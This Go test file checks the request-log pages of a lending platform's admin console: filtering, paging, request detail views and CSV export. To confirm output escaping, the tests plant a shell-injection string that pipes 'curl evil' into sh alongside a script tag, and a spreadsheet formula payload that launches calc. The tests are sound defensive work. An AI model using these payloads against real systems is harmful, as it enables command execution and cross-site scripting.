package console_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/google/uuid"

	"drawbridge/internal/apilog"
	"drawbridge/internal/lending"
	"drawbridge/internal/postgres"
	"drawbridge/views/paths"
)

// called logs a request, a second after the one before.
func (r *harness) called(change func(*apilog.Entry)) apilog.Entry {
	r.Helper()
	at := r.DB.Now().UTC().Truncate(time.Microsecond)
	entry := apilog.Entry{
		UID: postgres.NewUID(at), At: at, RequestID: "req-" + uuid.NewString(), Method: "POST",
		Route: "/api/v2/loan/:uid/request-draw",
		Path:  "/api/v2/loan/" + r.application.String() + "/request-draw", ClientID: "dbc_1",
		Authenticated: true, PartnerUID: r.Partner, MerchantUID: r.Merchant,
		ApplicationUID: r.application, Status: 200, Duration: 42 * time.Millisecond, BytesIn: 10,
		BytesOut: 900, Address: "192.0.2.7", UserAgent: "partner/1",
	}
	if change != nil {
		change(&entry)
	}
	writer := apilog.NewWriter(r.DB)
	writer.Record(entry)
	ctx, end := context.WithCancel(r.Context())
	end()
	writer.Run(ctx)
	r.ahead.Add(int64(time.Second))
	return entry
}

func TestRequestLog(t *testing.T) {
	t.Parallel()
	r := newHarness(t)
	b := r.signedIn()
	if got := b.get(paths.Requests).text(".empty"); !strings.Contains(got, "No requests yet") {
		t.Errorf("an empty log says %q", got)
	}
	client := r.issue(false)
	fine := r.called(func(e *apilog.Entry) { e.ClientID, e.IdempotencyKey = client.ClientID, "key-1" })
	refused := r.called(func(e *apilog.Entry) {
		e.Status, e.ErrorCode, e.ErrorFields = 400, lending.CodeValidation, []string{"borrower.email"}
		e.Method, e.ApplicationUID, e.ClientID = "PUT", uuid.Nil, client.ClientID
	})
	failed := r.called(func(e *apilog.Entry) {
		e.Status, e.ErrorCode, e.ClientID = 500, lending.CodeDrawPending, client.ClientID
		e.RequestID = "the-request"
	})
	tests := map[string][]apilog.Entry{
		"":                                   {failed, refused, fine},
		"outcome=ok":                         {fine},
		"outcome=refused":                    {refused},
		"outcome=failed":                     {failed},
		"code=VALIDATION_ERROR":              {refused},
		"method=PUT":                         {refused},
		"client=" + client.ClientID:          {failed, refused, fine},
		"client=dbc_other":                   nil,
		"partner=" + r.Partner.String():      {failed, refused, fine},
		"merchant=" + r.Merchant.String():    {failed, refused, fine},
		"application=" + fine.Path[13:49]:    {failed, fine},
		"request=the-request":                {failed},
		"request=+the-request+":              {failed},
		"key=key-1":                          {fine},
		"route=" + url.QueryEscape("/other"): nil,
		"since=2200-01-01T00:00":             nil,
		"until=2200-01-01T00:00&method=PUT":  {refused},
	}
	for query, want := range tests {
		page := b.get(paths.Requests+"?"+query).wantStatus(t, http.StatusOK)
		var ids []string
		for _, entry := range want {
			ids = append(ids, "r-"+entry.UID.String())
		}
		got := page.find("main .table tbody tr").Map(func(_ int, row *goquery.Selection) string {
			return row.AttrOr("id", "")
		})
		if !slices.Equal(got, ids) {
			t.Errorf("%q lists %v, want %v", query, got, ids)
		}
		if want == nil && !strings.Contains(page.text(".empty"), "No request matches") {
			t.Errorf("%q says %q", query, page.text(".empty"))
		}
	}
	for query, want := range map[string]string{
		"outcome=maybe": "no such outcome", "code=OUCH": "no such error", "partner=x": "not an id",
		"application=1": "not an id", "since=soon": "not a time", "cursor=x": "cannot be read",
		"since=2026-11-21T10:00&until=2026-11-21T09:00": "must come after",
	} {
		page := b.get(paths.Requests+"?"+query).wantStatus(t, http.StatusBadRequest)
		if got := page.text("main .empty"); !strings.Contains(got, want) {
			t.Errorf("%q says %q, want %q", query, got, want)
		}
	}
}

func TestRequestLogPages(t *testing.T) {
	t.Parallel()
	r := newHarness(t)
	r.exec(`
		INSERT INTO api_requests (request_uid, at, request_id, method, route, path, authenticated,
		        status, replayed, duration_us, bytes_in, bytes_out, address, user_agent)
		SELECT gen_random_uuid(), now() - n * interval '1 second', 'r', 'GET', '/r', '/p', false, 200,
		       false, 1, 1, 1, 'a', 'u'
		  FROM generate_series(1, 120) AS n`)
	b := r.signedIn()
	seen, next := map[string]bool{}, paths.Requests
	for next != "" {
		page := b.get(next).wantStatus(t, http.StatusOK)
		page.find("main tbody tr").Each(func(_ int, row *goquery.Selection) {
			seen[row.AttrOr("id", "")] = true
		})
		next = page.find(".pager a[rel=next]").AttrOr("href", "")
	}
	if len(seen) != 120 {
		t.Errorf("%d of 120 requests on all pages", len(seen))
	}
}

func TestRequestPage(t *testing.T) {
	t.Parallel()
	r := newHarness(t)
	b := r.signedIn()
	const planted = `';curl evil|sh;'"><script>planted()</script>`
	entry := r.called(func(e *apilog.Entry) {
		e.Status, e.ErrorCode, e.ErrorFields = 400, lending.CodeValidation, []string{"a.b"}
		e.Replayed, e.IdempotencyKey, e.UserAgent, e.Path = true, planted, planted, "/api/"+planted
	})
	page := b.get(paths.To(paths.Request, entry.UID.String())).wantStatus(t, http.StatusOK)
	if got := page.text("main"); !containsAll(got, []string{
		"400 Bad Request, VALIDATION_ERROR (a.b)", "42 ms", entry.RequestID, "Sunvolt Energy",
		"Sunvolt Phoenix", "earlier request with the same key", "192.0.2.7", "$SECRET",
	}) {
		t.Errorf("the page says %q", got)
	}
	if page.find("script:not([src])").Length() != 0 {
		t.Error("what was planted acts")
	}
	// Nothing in the command can break out of its quotes.
	if command := page.find("pre").Text(); !strings.Contains(command, `'\'';curl evil`) {
		t.Errorf("command %s", command)
	}
	for _, href := range []string{
		paths.To(paths.Partner, r.Partner.String()), paths.To(paths.Merchant, r.Merchant.String()),
		paths.To(paths.Application, r.application.String()),
	} {
		if page.find("main a[href='"+href+"']").Length() == 0 {
			t.Errorf("no way to %s", href)
		}
		b.get(href).wantStatus(t, http.StatusOK)
	}
	stranger := r.called(func(e *apilog.Entry) {
		e.Authenticated, e.PartnerUID, e.MerchantUID, e.Status = false, uuid.Nil, uuid.Nil, 401
	})
	if got := b.get(paths.To(paths.Request, stranger.UID.String())); !strings.Contains(
		got.text("main .notice"), "only what the request claimed") ||
		got.find("main a[href^='/console/clients']").Length() != 0 {
		t.Errorf("a stranger's request says %q", got.text("main"))
	}
	b.get(paths.To(paths.Request, uuid.NewString())).wantStatus(t, http.StatusNotFound)
}

func TestRequestsCSV(t *testing.T) {
	t.Parallel()
	r := newHarness(t)
	b := r.signedIn()
	r.called(func(e *apilog.Entry) { e.UserAgent, e.Status = "=cmd|' /C calc'!A0", 404 })
	r.called(nil)
	refusals := b.get(paths.Requests + "?outcome=refused")
	form := refusals.find("form[action='" + paths.RequestsCSV + "']")
	file := b.post(paths.RequestsCSV, url.Values{
		"filter": {form.Find("[name=filter]").AttrOr("value", "")},
	}).wantStatus(t, http.StatusOK)
	rows, err := csv.NewReader(strings.NewReader(file.Raw)).ReadAll()
	if err != nil || len(rows) != 2 || len(rows[1]) != len(rows[0]) {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	if agent := rows[1][len(rows[1])-1]; !strings.HasPrefix(agent, "'=") {
		t.Errorf("a formula is exported as %q", agent)
	}
	if r.audits("api_requests.export") != 1 {
		t.Error("the export is not in the audit log")
	}
	b.post(paths.RequestsCSV, url.Values{"filter": {"outcome=maybe"}}).
		wantStatus(t, http.StatusBadRequest)
}

// A request of one of the lender's systems links to the system for readers who may see it,
// and to no missing page for others.
func TestARequestLeadsToTheSystemThatSentIt(t *testing.T) {
	t.Parallel()
	r := newHarness(t)
	issued := r.issueLender()
	sent := r.called(func(e *apilog.Entry) {
		e.ClientID, e.PartnerUID, e.MerchantUID = issued.ClientID, uuid.Nil, uuid.Nil
	})
	path := paths.To(paths.Request, sent.UID.String())
	admin := r.admin()
	href := admin.get(path).find("dl.facts a:contains('"+issued.ClientID+"')").AttrOr("href", "")
	if admin.get(href).wantStatus(t, http.StatusOK).text("h1") != issued.ClientID {
		t.Errorf("the request leads to %q", href)
	}
	page := r.signedIn().get(path).wantStatus(t, http.StatusOK)
	if page.find("dl.facts a:contains('"+issued.ClientID+"')").Length() != 0 ||
		!strings.Contains(page.text("dl.facts"), issued.ClientID) {
		t.Error("support is led to a page for admins, or not told which client it was")
	}
}
